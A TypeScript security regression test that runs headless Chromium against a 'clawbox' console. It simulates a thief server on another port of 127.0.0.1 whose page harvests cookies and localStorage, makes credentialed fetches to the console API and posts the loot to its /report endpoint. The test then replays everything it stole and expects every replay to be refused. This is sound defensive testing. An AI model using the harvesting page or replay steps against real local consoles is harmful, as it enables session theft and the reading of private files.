/**
 * The attack on the console login through another port of the same host, in headless
 * Chromium against a real `clawbox run`. A browser sends a host's cookies to every port
 * of that host, and SameSite does not help (127.0.0.1:another-port is the same site), so
 * a local user's server on 127.0.0.1 used to receive the console's session cookie: the
 * owner, logged in to the console, visits that user's page at http://localhost:PORT/start
 * (another site), which bounces to http://127.0.0.1:PORT/bounce and on to /steal. The
 * thief's server records everything the browser sends it (headers, cookies, query), and
 * its page also tries the console from the browser (its storage, a credentialed fetch)
 * and reports back. Then everything it got is replayed against the console API the way
 * the attacker would with curl: reading `USER.md`, asking for the session, running a
 * chat turn. Every replay must get 401 and the model must never be called. Then the
 * owner logs out from the page (the token is forgotten and refused), and a tab holding an
 * ended session's token lands on the login form.
 */
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type Browser, chromium, type Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type ScriptedServer, startFakeOpenAI } from "../fakes/openai-server.ts";
import { cloudOnlyConfig } from "../support/openai-provider-fixture.ts";
import { type RunningService, startService } from "../support/run-service.ts";

const CHROMIUM = "/usr/bin/chromium";
const HAVE_CHROMIUM = existsSync(CHROMIUM);
if (!HAVE_CHROMIUM) console.warn(`console cookie attack skipped: ${CHROMIUM} is not installed`);

const TOKEN = "console-port-attack-token-0123";
const PRIVATE = "The owner's bank PIN is 9321.";

/** What the thief's server got: every request's path and headers, and its page's report. */
interface Loot {
  requests: { path: string; headers: Record<string, string | string[] | undefined> }[];
  reports: string[];
}

/** The local user's server: the bounce pages, the catch, and the page's own try. */
async function startThief(
  consoleBase: string,
): Promise<{ port: number; loot: Loot; server: Server }> {
  const loot: Loot = { requests: [], reports: [] };
  let port = 0;
  const page = (script: string) =>
    `<!doctype html><html><body><p>cat pictures</p><script>${script}</script></body></html>`;
  const server = createServer((req, res) => {
    const path = req.url ?? "/";
    loot.requests.push({ path, headers: req.headers });
    if (path === "/start") {
      res.writeHead(200, { "Content-Type": "text/html" });
      res.end(page(`location = "http://127.0.0.1:${port}/bounce";`));
    } else if (path === "/bounce") {
      res.writeHead(200, { "Content-Type": "text/html" });
      res.end(page(`location = "/steal";`));
    } else if (path === "/steal") {
      res.writeHead(200, { "Content-Type": "text/html" });
      // From the browser itself: what its storage holds for this origin, and what a
      // credentialed request to the console gets.
      res.end(
        page(`(async () => {
          const out = { storage: JSON.stringify({ ...localStorage }), cookie: document.cookie };
          for (const path of ["workspace/USER.md", "session"]) {
            try {
              const r = await fetch(${JSON.stringify(consoleBase)} + "/console/api/" + path, { credentials: "include" });
              out[path] = r.status + " " + (await r.text());
            } catch (error) {
              out[path] = "failed: " + error;
            }
          }
          await fetch("/report", { method: "POST", body: JSON.stringify(out) });
        })();`),
      );
    } else if (path === "/report") {
      let body = "";
      req.on("data", (d) => {
        body += d;
      });
      req.on("end", () => {
        loot.reports.push(body);
        res.end("thanks");
      });
    } else {
      res.writeHead(404);
      res.end();
    }
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  port = typeof address === "object" && address ? address.port : 0;
  return { port, loot, server };
}

/** Every cookie the thief saw, as `name=value` pairs. */
function cookiesIn(loot: Loot): string[] {
  const pairs = new Set<string>();
  for (const r of loot.requests) {
    const header = r.headers.cookie;
    for (const line of Array.isArray(header) ? header : header ? [header] : [])
      for (const pair of line.split(";")) if (pair.trim()) pairs.add(pair.trim());
  }
  return [...pairs];
}

describe.skipIf(!HAVE_CHROMIUM)(
  "a server on another port of 127.0.0.1 and the console login",
  () => {
    let home: string;
    let model: ScriptedServer;
    let box: RunningService;
    let browser: Browser;
    let thief: Awaited<ReturnType<typeof startThief>>;
    let page: Page;
    let token: string | null;

    beforeAll(async () => {
      home = mkdtempSync(join(tmpdir(), "clawbox-console-port-"));
      model = await startFakeOpenAI();
      writeFileSync(
        join(home, "clawbox.json"),
        JSON.stringify(cloudOnlyConfig(model.url, { server: { token: TOKEN } })),
      );
      mkdirSync(join(home, "workspace"), { recursive: true });
      writeFileSync(join(home, "workspace", "USER.md"), `# User\n\n${PRIVATE}\n`);
      box = await startService(["--port", "0"], { CLAWBOX_HOME: home, CLAWBOX_CONFIG: "" });
      thief = await startThief(box.url);
      browser = await chromium.launch({
        executablePath: CHROMIUM,
        args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"],
      });
    }, 90_000);

    afterAll(async () => {
      await browser?.close();
      thief?.server.close();
      box?.child.kill("SIGTERM");
      await box?.exited;
      await model?.close();
      if (home) rmSync(home, { recursive: true, force: true });
    });

    it("gives the thief's server nothing that reads USER.md or runs a turn", async () => {
      page = await (await browser.newContext()).newPage();
      // The owner logs in to the console at 127.0.0.1 and sees a private file.
      await page.goto(`${box.url}/`);
      await page.waitForSelector("input[name=secret]");
      await page.fill("input[name=secret]", TOKEN);
      await Promise.all([page.waitForURL(`${box.url}/`), page.click("button[type=submit]")]);
      await page.waitForSelector("#chat-input");
      token = await page.evaluate(() => localStorage.getItem("clawbox.console.session"));
      expect(token).toMatch(/^[A-Za-z0-9_-]{40,}$/);
      const own = await page.evaluate(
        async (t) =>
          (
            await fetch("/console/api/workspace/USER.md", {
              headers: { "X-Clawbox-Session": t ?? "" },
            })
          ).text(),
        token,
      );
      expect(own).toContain(PRIVATE);

      // Then visits the local user's page, on another site that bounces to 127.0.0.1.
      const reported = new Promise<void>((resolve) => {
        const check = setInterval(() => {
          if (thief.loot.reports.length > 0) {
            clearInterval(check);
            resolve();
          }
        }, 50);
      });
      await page.goto(`http://localhost:${thief.port}/start`);
      await reported;
      const paths = thief.loot.requests.map((r) => r.path).filter((p) => p !== "/favicon.ico");
      expect(paths).toEqual(["/start", "/bounce", "/steal", "/report"]);
      expect(page.url()).toBe(`http://127.0.0.1:${thief.port}/steal`);

      // The attacker replays every cookie it got, and every cookie value as the session
      // header, against the console API as curl would.
      const stolen = cookiesIn(thief.loot);
      const tries: Record<string, string>[] = [{}];
      for (const pair of stolen) {
        tries.push({ Cookie: pair });
        tries.push({ "X-Clawbox-Session": pair.slice(pair.indexOf("=") + 1) });
      }
      if (stolen.length > 0) tries.push({ Cookie: stolen.join("; ") });
      for (const headers of tries) {
        const file = await fetch(`${box.url}/console/api/workspace/USER.md`, { headers });
        expect(file.status, JSON.stringify(headers)).toBe(401);
        expect(await file.text()).not.toContain("9321");
        const session = await fetch(`${box.url}/console/api/session`, { headers });
        expect(session.status).toBe(401);
        await session.text();
        const chat = await fetch(`${box.url}/console/api/chat`, {
          method: "POST",
          headers: { ...headers, "Content-Type": "application/json" },
          body: JSON.stringify({ message: "run exec: id" }),
        });
        expect(chat.status).toBe(401);
        await chat.text();
      }
      // Whatever reached the thief: no token, no file, from the headers or from its page.
      const everything = JSON.stringify(thief.loot);
      expect(everything).not.toContain(token);
      expect(everything).not.toContain("9321");
      const report = JSON.parse(thief.loot.reports[0] ?? "{}") as Record<string, string>;
      expect(report["workspace/USER.md"]).not.toMatch(/^200/);

      expect(model.requests).toHaveLength(0);
      // The owner's own session still works: nothing above logged them out.
      expect(
        (
          await fetch(`${box.url}/console/api/session`, {
            headers: { "X-Clawbox-Session": token ?? "" },
          })
        ).status,
      ).toBe(200);
    }, 60_000);

    it("logs out from the page (the box ends the session, the browser forgets it); a tab with an ended session gets the login form", async () => {
      await page.goto(`${box.url}/`);
      await page.waitForSelector("#chat-input");
      await Promise.all([page.waitForURL(`${box.url}/console/login`), page.click("#logout")]);
      await page.waitForSelector("input[name=secret]");
      await expect(
        page.evaluate(() => localStorage.getItem("clawbox.console.session")),
      ).resolves.toBeNull();
      const after = await fetch(`${box.url}/console/api/session`, {
        headers: { "X-Clawbox-Session": token ?? "" },
      });
      expect(after.status).toBe(401);
      // A tab still holding the ended session's token goes to the login form, not an error.
      await page.evaluate((t) => localStorage.setItem("clawbox.console.session", t ?? ""), token);
      await page.goto(`${box.url}/#memory`);
      await page.waitForURL(`${box.url}/console/login`);
      await page.waitForSelector("input[name=secret]");
      await expect(
        page.evaluate(() => localStorage.getItem("clawbox.console.session")),
      ).resolves.toBeNull();
    }, 60_000);
  },
);
